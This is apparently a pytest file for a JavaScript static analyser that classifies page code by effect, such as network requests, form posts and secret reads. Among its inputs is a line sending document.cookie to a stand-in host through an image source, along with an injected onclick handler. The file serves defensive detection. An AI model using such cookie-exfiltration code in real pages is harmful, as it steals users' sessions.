"""Pages: what is set on an element, and that the same names mean nothing in a program that has no page."""

from __future__ import annotations

import pytest

from tests.analyse.javascript.check import effects_of


def kinds(program: str) -> set[str]:
    return {str(effect.kind) for effect in effects_of(program)}


@pytest.mark.parametrize(
    "program",
    [
        "const [image, form, node, button, x] = JSON.parse(text); image.src = name; form.submit(); node.inner = text; button.click(); x.setAttribute('href', y)",
        "class Car { constructor() { this.src = 1; this.location = 2 } }; const c = new Car(); c.location = 3; c.click()",
        "function f(parent) { parent.location = 'here'; return parent.cookie }",
    ],
)
def test_without_a_page_these_are_names_like_others(program: str) -> None:
    assert kinds(program) == set()


@pytest.mark.parametrize(
    ("program", "kind"),
    [
        ("await page.$eval('form', (form) => form.submit())", "http.post"),
        ("await page.$eval('a', (a) => { a.innerHTML = text })", "opaque"),
        ("await page.evaluate(() => { const i = new Image(); i.src = 'https://x.example/?' + document.cookie })", "secret.read"),
        ("await page.evaluate(() => { new Image().src = 'https://x.example/' })", "http.get"),
        ("class View extends React.Component { show() { this.ref.innerHTML = `<li>${this.props.item}</li>` } }", "opaque"),
        ("class View { tell(data) { this.webview.contentWindow.postMessage(data, '*') } }", "opaque"),
        ("new AudioContext().audioWorklet.addModule('https://x.example/a.js')", "opaque"),
        ("document.body.setAttributeNS(null, 'onclick', 'alert(1)')", "opaque"),
        ("const x = document.querySelector('image'); x.setAttributeNS(NS, 'xlink:href', 'https://x.example/')", "http.get"),
        ("document.body.style.setProperty('background-image', 'url(https://x.example/)')", "http.get"),
        ("document.styleSheets[0].insertRule('@import \"https://x.example/\"')", "http.get"),
        ("window.frames[0].location = 'https://x.example/'", "opaque"),
        ("frames[0].location.href = 'https://x.example/'", "opaque"),
        ("document.open(); document.forms[0].requestSubmit()", "http.post"),
    ],
)
def test_functions_that_run_in_a_page_are_judged_as_pages(program: str, kind: str) -> None:
    assert kind in kinds(program)
